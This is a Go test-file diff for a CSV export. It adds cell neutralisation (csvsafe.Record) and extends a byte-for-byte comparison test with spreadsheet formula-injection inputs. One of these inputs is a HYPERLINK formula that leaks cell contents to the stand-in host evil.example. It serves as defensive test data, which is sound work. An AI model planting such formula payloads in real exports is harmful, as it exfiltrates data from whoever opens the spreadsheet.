@@ -8,12 +8,13 @@ import (
 	"testing"
 	"time"
 
+	"github.com/telltale-dev/telltale/internal/csvsafe"
 	"github.com/telltale-dev/telltale/internal/event"
 	"github.com/telltale-dev/telltale/internal/eventgen"
 )
 
 // csvFields is the export's CSV record as strings: the reference appendCSVRow must match once
-// encoding/csv has written it.
+// encoding/csv has written it, its cells neutralised (csvsafe.Record).
 func csvFields(e *event.FileEvent) []string {
 	ts := func(t time.Time) string {
 		if t.IsZero() {
@@ -37,7 +38,7 @@ func csvFields(e *event.FileEvent) []string {
 func encodingCSV(t testing.TB, fields []string) []byte {
 	var b bytes.Buffer
 	w := csv.NewWriter(&b)
-	if err := w.Write(fields); err != nil {
+	if err := w.Write(csvsafe.Record(fields)); err != nil {
 		t.Fatal(err)
 	}
 	w.Flush()
@@ -45,11 +46,13 @@ func encodingCSV(t testing.TB, fields []string) []byte {
 }
 
 // TestAppendCSVRowIsEncodingCSV: the export's hand-written CSV is byte for byte what encoding/csv
-// writes, for generated events and for fields that need quoting (or look as if they do).
+// writes for the neutralised cells, for generated events and for fields that need quoting or
+// neutralising (or look as if they do).
 func TestAppendCSVRowIsEncodingCSV(t *testing.T) {
 	evs := eventgen.New(eventgen.Options{Seed: 11, People: 50, Days: 30}).Batch(3000)
 	tricky := []string{"", `a,b`, `say "hi"`, "two\nlines", "cr\rhere", " leading space", "\tleading tab", "\u00a0nbsp first",
-		"\u2003em space", `\.`, `\.x`, "trailing space ", "semi;colon", `"`, `""`, ",", "ünïcödé", "x\r\n\"y\",z"}
+		"\u2003em space", `\.`, `\.x`, "trailing space ", "semi;colon", `"`, `""`, ",", "ünïcödé", "x\r\n\"y\",z",
+		`=HYPERLINK("http://evil.example/?leak="&A1,"Q3.xlsx")`, "+1", "-x", "@SUM(A1)", "\r=1", "=a,b", "'=quoted", "a=b"}
 	for i, s := range tricky {
 		e := evs[i]
 		e.File.Name, e.Email.Subject, e.Event.ConnectionName, e.User.Email = s, s, s, s
